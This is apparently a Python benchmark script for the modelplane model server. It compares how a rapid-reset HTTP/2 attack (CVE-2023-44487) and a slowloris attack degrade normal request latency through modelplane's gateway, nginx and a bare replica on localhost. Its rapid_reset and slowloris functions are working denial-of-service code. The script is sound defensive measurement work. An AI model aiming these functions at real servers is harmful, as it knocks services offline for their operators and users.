"""Attack benchmark: what rapid reset and slowloris do to everyone else's requests, modelplane against nginx.

One `modelplane serve` replica (the sklearn iris model, 1 worker, REST and gRPC) stands behind three
targets, each attacked in turn:

- modelplane gateway   `modelplane up`'s gateway in its own process (bench/gateway.py --serve-gateway),
                       REST and gRPC on one port
- nginx (reference)    Debian's nginx, one worker: `proxy_pass` (HTTP/1.1, keep-alive) for REST and an
                       `http2` listener with `grpc_pass` for gRPC, both to the same replica
- modelplane serve     the replica's own ports, no proxy in front

Attacks, each from its own process for the length of a measured run:

- rapid reset (CVE-2023-44487), on the gRPC port: one connection at a time opens a stream (the headers of
  a ModelInfer call) and resets it at once, in batches of 100, as fast as it can; when the server ends
  the connection it opens another.
- slowloris, on the REST port: 1000 connections each send a request line and then one more header
  line a second, never ending the head; a connection the server closes is opened again.

The normal load runs meanwhile, and on its own before (interleaved by round): gRPC `ModelInfer` from a
grpc.aio client with C calls in flight on one channel (bench/gateway.py --grpc-load) during rapid reset,
`POST /v2/models/iris/infer` from wrk with C connections during slowloris. The figure is the normal
requests' p99 during the attack over their p99 without it, per target (median of the rounds); the
target is a ratio no worse than nginx's. Failed normal requests are counted, not hidden.

    bash bench/setup.sh                                 # wrk, h2load and nginx (Debian packages)
    python3 bench/attacks.py                            # 3 rounds x 10 s per row, prints the table
    python3 bench/attacks.py --write-results            # ... and rewrites "## Attacks" in bench/RESULTS.md
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import datetime
import json
import os
import platform
import re
import shutil
import signal
import socket
import statistics
import struct
import subprocess
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path

from gateway import BODY, HOST, MODEL_NAME, WRK_SCRIPT, Process, nginx_version, start_gateway, train_iris
from harness import free_port, log
from results_file import put_section

BENCH = Path(__file__).resolve().parent
ROOT = BENCH.parent
WORK = BENCH / ".work" / "attacks"
SLOWLORIS_CONNECTIONS = 1000
TARGETS = ("modelplane", "nginx", "direct")
LABELS = {"modelplane": "modelplane gateway", "nginx": "nginx (reference)", "direct": "modelplane serve"}
ATTACKS = ("rapid-reset", "slowloris")

NGINX_CONF = """
{user}worker_processes 1;
worker_rlimit_nofile 20000;
daemon off;
pid {work}/nginx.pid;
error_log {work}/nginx-error.log warn;
events {{ worker_connections 8192; }}
http {{
    access_log off;
    client_header_timeout 10s;
    client_body_temp_path {work}/nginx-tmp;
    proxy_temp_path {work}/nginx-tmp;
    upstream replica {{ server 127.0.0.1:{http_port}; keepalive 64; }}
    upstream replica_grpc {{ server 127.0.0.1:{grpc_port}; keepalive 64; }}
    server {{
        listen 127.0.0.1:{rest};
        location / {{
            proxy_pass http://replica;
            proxy_http_version 1.1;
            proxy_set_header Connection "";
            proxy_buffering off;
            proxy_request_buffering off;
        }}
    }}
    server {{
        listen 127.0.0.1:{grpc} http2;
        location / {{ grpc_pass grpc://replica_grpc; }}
    }}
}}
"""


# --------------------------------------------------------------------------------------------- attackers


def rapid_reset(port: int, authority: str, seconds: float) -> dict:
    """Streams opened and reset at once, 100 to a write, reconnecting whenever the server hangs up."""
    sys.path.insert(0, str(ROOT))
    from modelplane.protocol.http2 import frames as f
    from modelplane.protocol.http2 import hpack

    block = hpack.encode(
        [
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", b"/inference.GRPCInferenceService/ModelInfer"),
            (b":authority", authority.encode()),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        ]
    )
    head = struct.Struct(">BHBBL")
    stats = {"streams": 0, "connections": 0, "goaway": {}, "seconds": seconds}
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        except OSError:
            time.sleep(0.01)
            continue
        stats["connections"] += 1
        frames_in = _FrameReader()
        try:
            sock.sendall(f.PREFACE + f.settings({}) + f.frame(f.SETTINGS, f.ACK, 0))
            stream_id = 1
            while time.monotonic() < deadline and stream_id < 2**31 - 200:
                batch = []
                for _ in range(100):
                    batch.append(head.pack(0, len(block), f.HEADERS, f.END_HEADERS, stream_id))
                    batch.append(block)
                    batch.append(f.rst_stream(stream_id, f.CANCEL))
                    stream_id += 2
                sock.sendall(b"".join(batch))
                stats["streams"] += 100
                if not frames_in.read_available(sock):
                    break  # the server closed the connection
        except OSError:
            with contextlib.suppress(OSError):
                frames_in.read_available(sock)
        finally:
            sock.close()
        code = frames_in.goaway or "none: the connection was cut or left open"
        stats["goaway"][code] = stats["goaway"].get(code, 0) + 1
    return stats


_ERROR_CODES = {0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR", 0xB: "ENHANCE_YOUR_CALM"}


class _FrameReader:
    """The server's frames, read without waiting; only its GOAWAY's error code is kept."""

    def __init__(self) -> None:
        self.goaway: str | None = None
        self._pending = b""

    def read_available(self, sock: socket.socket) -> bool:
        """Reads what has arrived; False once the server has closed the connection."""
        sock.setblocking(False)
        try:
            while True:
                try:
                    chunk = sock.recv(1 << 20)
                except BlockingIOError:
                    return True
                if not chunk:
                    return False
                self._parse(self._pending + chunk)
        finally:
            sock.setblocking(True)
            sock.settimeout(5)

    def _parse(self, data: bytes) -> None:
        position = 0
        while len(data) - position >= 9:
            length = int.from_bytes(data[position : position + 3], "big")
            if len(data) - position < 9 + length:
                break
            if data[position + 3] == 0x7:  # GOAWAY
                code = int.from_bytes(data[position + 13 : position + 17], "big")
                self.goaway = _ERROR_CODES.get(code, hex(code))
            position += 9 + length
        self._pending = data[position:]


def slowloris(port: int, host: str, seconds: float, connections: int) -> dict:
    """Connections that never finish their request head: a header line a second each, forever."""
    stats = {"opened": 0, "closed_by_server": 0, "answered_408": 0, "held_at_end": 0, "seconds": seconds}
    opening = (
        f"POST /v2/models/{MODEL_NAME}/infer HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
    ).encode()

    async def hold(deadline: float) -> None:
        loop = asyncio.get_running_loop()
        while loop.time() < deadline:
            try:
                reader, writer = await asyncio.open_connection("127.0.0.1", port)
            except OSError:
                await asyncio.sleep(0.1)
                continue
            stats["opened"] += 1
            try:
                writer.write(opening)
                number = 0
                while loop.time() < deadline:
                    with contextlib.suppress(TimeoutError):
                        answer = await asyncio.wait_for(reader.read(4096), 1.0)
                        stats["closed_by_server"] += 1
                        stats["answered_408"] += answer.startswith(b"HTTP/1.1 408")
                        break
                    writer.write(b"X-Slow-%d: a\r\n" % number)
                    number += 1
                else:
                    stats["held_at_end"] += 1
            except OSError:
                stats["closed_by_server"] += 1
            finally:
                writer.close()

    async def main() -> None:
        deadline = asyncio.get_running_loop().time() + seconds
        await asyncio.gather(*(hold(deadline) for _ in range(connections)))

    asyncio.run(main())
    return stats


# --------------------------------------------------------------------------------------------- the load


@dataclass
class Run:
    p99_ms: float
    p50_ms: float
    rps: float
    errors: int
    attack: dict = field(default_factory=dict)


def grpc_run(target: str, authority: str, concurrency: int, args) -> Run:
    argv = [sys.executable, str(BENCH / "gateway.py"), "--grpc-load", target, authority or "-"]
    argv += [str(concurrency), str(args.duration), str(args.warmup)]
    result = subprocess.run(argv, capture_output=True, text=True, timeout=args.duration + args.warmup + 120)
    try:
        fields = json.loads(result.stdout.strip().splitlines()[-1])
    except (IndexError, ValueError):
        raise RuntimeError(f"the gRPC load failed ({result.returncode}): {result.stderr[-500:]}") from None
    if "error" in fields:
        raise RuntimeError(f"the gRPC load's check call failed: {fields['error']}")
    return Run(
        fields["p99_us"] / 1000,
        fields["p50_us"] / 1000,
        fields["requests"] / fields["seconds"],
        fields["errors"],
    )


def rest_run(port: int, host: str | None, concurrency: int, args, script: Path) -> Run:
    cmd = ["wrk", "-t1", f"-c{concurrency}", f"-d{args.duration:g}s", "--timeout", "10s", "-s", str(script)]
    if host:
        cmd += ["-H", f"Host: {host}"]
    cmd.append(f"http://127.0.0.1:{port}/v2/models/{MODEL_NAME}/infer")
    env = dict(os.environ, BENCH_BODY=BODY)
    if args.warmup:
        warm = [*cmd]
        warm[3] = f"-d{args.warmup:g}s"
        subprocess.run(warm, capture_output=True, env=env, timeout=args.warmup + 60)
    result = subprocess.run(cmd, capture_output=True, text=True, env=env, timeout=args.duration + 60)
    match = re.search(r"^BENCH_RESULT (.*)$", result.stdout, re.M)
    if not match:
        raise RuntimeError(f"wrk failed ({result.returncode}): {result.stdout[-300:]} {result.stderr[-300:]}")
    fields = {key: int(value) for key, value in (pair.split("=") for pair in match.group(1).split())}
    errors = sum(fields[key] for key in ("non2xx", "connect", "read", "write", "timeout"))
    seconds = fields["duration_us"] / 1e6
    return Run(fields["p99_us"] / 1000, fields["p50_us"] / 1000, fields["requests"] / seconds, errors)


def start_attack(attack: str, port: int, authority: str, args) -> subprocess.Popen:
    seconds = args.warmup + args.duration + 1
    argv = [sys.executable, str(Path(__file__).resolve()), "--attack", attack, str(port), authority or "-"]
    argv += [str(seconds)]
    process = subprocess.Popen(argv, stdout=subprocess.PIPE, text=True, start_new_session=True)
    time.sleep(1.0 if attack == "slowloris" else 0.2)  # the slow connections open first
    return process


def attack_stats(process: subprocess.Popen) -> dict:
    try:
        out, _ = process.communicate(timeout=60)
    except subprocess.TimeoutExpired:
        os.killpg(process.pid, signal.SIGKILL)
        out, _ = process.communicate()
    with contextlib.suppress(IndexError, ValueError):
        return json.loads(out.strip().splitlines()[-1])
    return {}


# --------------------------------------------------------------------------------------------- the runs


def start_replica(work: Path) -> tuple[Process, int]:
    train_iris(work / "model")
    http_port, grpc_port = free_port(), free_port()
    exe = shutil.which("modelplane") or "modelplane"
    argv = [
        exe,
        "serve",
        "--model-dir",
        str(work / "model"),
        "--model-name",
        MODEL_NAME,
        "--runtime",
        "sklearn",
    ]
    argv += ["--http-port", str(http_port), "--grpc-port", str(grpc_port), "--workers", "1"]
    return Process("replica", argv, http_port, work), grpc_port


def start_nginx(http_port: int, grpc_port: int, work: Path) -> tuple[Process, int]:
    rest, grpc = free_port(), free_port()
    user = "user root;\n" if os.geteuid() == 0 else ""
    conf = work / "nginx.conf"
    (work / "nginx-tmp").mkdir(exist_ok=True)
    conf.write_text(
        NGINX_CONF.format(
            user=user, work=work, http_port=http_port, grpc_port=grpc_port, rest=rest, grpc=grpc
        )
    )
    return Process("nginx", ["nginx", "-c", str(conf), "-e", str(work / "nginx-error.log")], rest, work), grpc


def measure(args) -> dict[tuple[str, str], list[tuple[Run, Run]]]:
    shutil.rmtree(WORK, ignore_errors=True)
    WORK.mkdir(parents=True)
    script = WORK / "post.lua"
    script.write_text(WRK_SCRIPT)
    replica, replica_grpc = start_replica(WORK)
    processes = [replica]
    runs: dict[tuple[str, str], list[tuple[Run, Run]]] = {}
    try:
        replica.wait_ready()
        gateway = start_gateway(replica.port, WORK, replica_grpc)
        processes.append(gateway)
        gateway.wait_ready(HOST)
        # target -> (REST port, Host, gRPC address, authority)
        ports = {
            "modelplane": (gateway.port, HOST, gateway.port, HOST),
            "direct": (replica.port, None, replica_grpc, ""),
        }
        if "nginx" in args.targets:
            nginx, nginx_grpc = start_nginx(replica.port, replica_grpc, WORK)
            processes.append(nginx)
            nginx.wait_ready()
            ports["nginx"] = (nginx.port, None, nginx_grpc, "")
        for round_index in range(args.rounds):
            targets = [t for t in TARGETS if t in args.targets]
            targets = targets[round_index % len(targets) :] + targets[: round_index % len(targets)]
            for attack in args.attacks:
                for target in targets:
                    rest_port, host, grpc_port, authority = ports[target]
                    pair = []
                    for attacked in (round_index % 2 == 1, round_index % 2 == 0):
                        attacker = None
                        if attacked:
                            port = grpc_port if attack == "rapid-reset" else rest_port
                            attacker = start_attack(attack, port, authority or host or "localhost", args)
                        try:
                            if attack == "rapid-reset":
                                run = grpc_run(f"127.0.0.1:{grpc_port}", authority, args.concurrency, args)
                            else:
                                run = rest_run(rest_port, host, args.concurrency, args, script)
                        finally:
                            if attacker is not None:
                                stats = attack_stats(attacker)
                        if attacker is not None:
                            run.attack = stats
                        pair.append((attacked, run))
                        log(
                            f"round {round_index + 1} {attack:11} {target:10} "
                            f"{'attacked' if attacked else 'quiet   '} p99 {run.p99_ms:8.3f} ms  "
                            f"{run.rps:7.0f} req/s  errors {run.errors}  {json.dumps(run.attack)}"
                        )
                    quiet = next(run for attacked, run in pair if not attacked)
                    under = next(run for attacked, run in pair if attacked)
                    runs.setdefault((attack, target), []).append((quiet, under))
    finally:
        for process in reversed(processes):
            process.stop()
    return runs


# --------------------------------------------------------------------------------------------- report


def render(runs, args, started: str, load: tuple) -> str:
    lines = [
        f"Run {started} on {platform.node() or 'this machine'}: {os.cpu_count()} cores, Python "
        f"{platform.python_version()}, {nginx_version()}, load average before the run {load[0]:.2f}. "
        f"{args.rounds} rounds x {args.duration:g} s per row (after {args.warmup:g} s warm-up), medians of "
        f"the rounds, normal load at concurrency {args.concurrency}. The attacker, the normal load, the "
        "target and the replica share the cores.",
        "",
        "| attack | target | normal p99 ms, quiet | under attack | **p99 ratio** | req/s quiet | under attack "
        "| failed normal requests | the attack, per run | answered with |",
        "|---|---|---:|---:|---:|---:|---:|---:|---|---|",
    ]
    for attack in args.attacks:
        for target in TARGETS:
            pairs = runs.get((attack, target))
            if not pairs:
                continue
            quiet_p99 = statistics.median(q.p99_ms for q, _ in pairs)
            under_p99 = statistics.median(u.p99_ms for _, u in pairs)
            ratio = statistics.median(u.p99_ms / q.p99_ms for q, u in pairs)
            quiet_rps = statistics.median(q.rps for q, _ in pairs)
            under_rps = statistics.median(u.rps for _, u in pairs)
            errors = sum(u.errors for _, u in pairs)
            lines.append(
                f"| {attack} | {LABELS[target]} | {quiet_p99:.2f} | {under_p99:.2f} | **{ratio:.2f}** "
                f"| {quiet_rps:.0f} | {under_rps:.0f} | {errors} | {_attack_summary(attack, pairs)} "
                f"| {_answers(attack, pairs)} |"
            )
    return "\n".join(lines)


def _attack_summary(attack: str, pairs) -> str:
    stats = [u.attack for _, u in pairs if u.attack]
    if not stats:
        return ""
    if attack == "rapid-reset":
        rate = statistics.median(s["streams"] / s["seconds"] for s in stats)
        connections = statistics.median(s["connections"] for s in stats)
        return f"{rate:,.0f} streams reset/s on {connections:.0f} connections"
    opened = statistics.median(s["opened"] for s in stats)
    held = statistics.median(s["held_at_end"] for s in stats)
    return f"{opened:.0f} connections opened, {held:.0f} still held at the end"


def _answers(attack: str, pairs) -> str:
    stats = [u.attack for _, u in pairs if u.attack]
    if attack == "rapid-reset":
        codes: dict[str, int] = {}
        for s in stats:
            for code, count in s.get("goaway", {}).items():
                codes[code] = codes.get(code, 0) + count
        return ", ".join(
            f"GOAWAY {code} x{count}" if "none" not in code else f"{code} x{count}"
            for code, count in codes.items()
        )
    answered = sum(s.get("answered_408", 0) for s in stats)
    closed = sum(s.get("closed_by_server", 0) for s in stats)
    return f"{closed} closed by the server, {answered} of them with a 408"


NOTES = """How to read it:
- The p99 ratio is the normal requests' p99 under attack over their p99 without it (the median of the
  rounds' ratios); 1.00 is an attack that costs the others nothing. On these 2 shared cores the
  attacker itself takes CPU from everyone else, so some rise is the machine's, not the target's.
- Rapid reset: the attacker writes HEADERS + RST_STREAM pairs as fast as Python can. modelplane gives
  a connection 1,000 resets of streams it has not answered (33 more a second, one back for each stream
  answered), then GOAWAY ENHANCE_YOUR_CALM (docs/security.md); the gateway does not forward a stream
  that is reset before its frames have left, so the replica behind it sees none of them. nginx
  (Debian's 1.22.1, with the fix for CVE-2023-44487) limits new streams per read and ends a connection
  after 1,000 requests.
- Slowloris: modelplane answers a head that has not arrived within 10 s with 408 and closes the
  connection; more than 1,024 idle connections close the longest idle. The attack's connections cost
  the loop nothing while they wait. They open together, so they time out together: the sweep closes
  them 64 at a time, with a turn of the event loop between (measured 2026-12-05, three runs each: the
  gateway's ratio was 1.24 to 1.43 times nginx's when one callback closed them all, 0.96 to 1.07 times
  with slices). nginx's
  client_header_timeout does the same job; it is set to modelplane's 10 s (nginx's default is 60 s),
  so both close the attack's connections as often.
- The machine is shared with other work (see the load average): runs vary by 2x and more."""


def write_section(table: str, command: str) -> None:
    section = (
        "## Attacks\n\n"
        "Normal requests during a rapid-reset and a slowloris attack against without, through modelplane's "
        "gateway, nginx, and on the model server's own ports (target: a p99 ratio no worse than nginx's).\n"
        f"Produced by `{command}`.\n\n{table}\n\n{NOTES}\n"
    )
    put_section("Attacks", section)


def main() -> int:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--duration", type=float, default=10.0, help="seconds per measured run")
    parser.add_argument("--warmup", type=float, default=2.0, help="seconds of warm-up before each run")
    parser.add_argument("--rounds", type=int, default=3)
    parser.add_argument("--concurrency", type=int, default=4, help="normal requests in flight")
    parser.add_argument("--attacks", type=lambda s: s.split(","), default=list(ATTACKS))
    parser.add_argument("--targets", type=lambda s: s.split(","), default=list(TARGETS))
    parser.add_argument(
        "--write-results", action="store_true", help='rewrite "## Attacks" in bench/RESULTS.md'
    )
    parser.add_argument("--attack", nargs=4, help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.attack:
        attack, port, authority, seconds = args.attack
        if attack == "rapid-reset":
            stats = rapid_reset(int(port), authority, float(seconds))
        else:
            stats = slowloris(int(port), authority, float(seconds), SLOWLORIS_CONNECTIONS)
        print(json.dumps(stats), flush=True)
        return 0
    for tool in ("wrk", "nginx") if "nginx" in args.targets else ("wrk",):
        if not shutil.which(tool):
            raise SystemExit(f"{tool} is missing: run `bash bench/setup.sh`")
    started = datetime.datetime.now(datetime.UTC).strftime("%Y-%m-%d %H:%M UTC")
    load = os.getloadavg()
    table = render(measure(args), args, started, load)
    print(table)
    if args.write_results:
        write_section(table, ("python3 bench/attacks.py " + " ".join(sys.argv[1:])).strip())
    return 0


if __name__ == "__main__":
    sys.exit(main())
